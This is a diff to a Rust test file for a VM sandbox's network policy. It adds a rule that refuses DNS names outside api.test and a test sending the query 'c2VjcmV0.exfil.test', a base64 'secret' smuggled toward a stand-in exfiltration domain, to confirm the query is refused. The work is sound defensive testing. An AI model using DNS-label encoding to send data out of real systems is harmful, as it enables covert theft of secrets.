@@ -184,8 +184,8 @@ async fn guest_curl_gets_credentials_injected_for_the_allowed_host_only() {
     vm.shutdown().await.unwrap();
 }
 
-/// A DNS A query over UDP or TCP from the guest, printing the answer count
-/// and the last answer's address.
+/// A DNS A query over UDP or TCP from the guest, printing the response
+/// code, the answer count and the last answer's address.
 const DNS_QUERY: &str = r#"
 import socket, struct, sys
 mode, server, name = sys.argv[1:4]
@@ -203,7 +203,7 @@ else:
     s.settimeout(10)
     s.sendto(m, (server, 53))
     r = s.recv(4096)
-print(struct.unpack('>H', r[6:8])[0], '.'.join(str(b) for b in r[-4:]))
+print(r[3] & 15, struct.unpack('>H', r[6:8])[0], '.'.join(str(b) for b in r[-4:]))
 "#;
 
 #[tokio::test]
@@ -216,6 +216,10 @@ async fn raw_tcp_grants_and_dns_over_udp_and_tcp_to_any_resolver() {
     let routes = RoutedConnector::new().route(SocketAddr::new(raw_ip, 8080), raw.addr);
     let policy = move |conn: Conn| async move {
         if let Some(dns) = conn.match_dns() {
+            // Decided per query: names outside api.test are refused.
+            if !dns.is_under(["api.test"]) {
+                return Ok(dns.refuse());
+            }
             return Ok(dns.synthesize([("api.test", api_ip)]));
         }
         if let Some(tcp) = conn.match_tcp("203.0.113.12:8080") {
@@ -250,11 +254,27 @@ async fn raw_tcp_grants_and_dns_over_udp_and_tcp_to_any_resolver() {
             .unwrap();
         assert_eq!(
             String::from_utf8_lossy(&out.stdout).trim(),
-            format!("1 {API_IP}"),
+            format!("0 1 {API_IP}"),
             "{mode} to {server}: {}",
             String::from_utf8_lossy(&out.stderr)
         );
+        // The same flow kind with a name carrying data: refused by the
+        // host (REFUSED = 5, no answers), forwarded nowhere.
+        let out = vm
+            .exec(
+                "python3",
+                ["-c", DNS_QUERY, mode, server, "c2VjcmV0.exfil.test"],
+            )
+            .await
+            .unwrap();
+        let text = String::from_utf8_lossy(&out.stdout);
+        assert!(text.starts_with("5 0 "), "{mode} to {server}: {text}");
     }
+    let stats = vm.network_stats().unwrap();
+    assert!(
+        stats.dns_denied >= 4 && stats.dns_answered >= 4,
+        "{stats:?}"
+    );
     vm.shutdown().await.unwrap();
 }
 
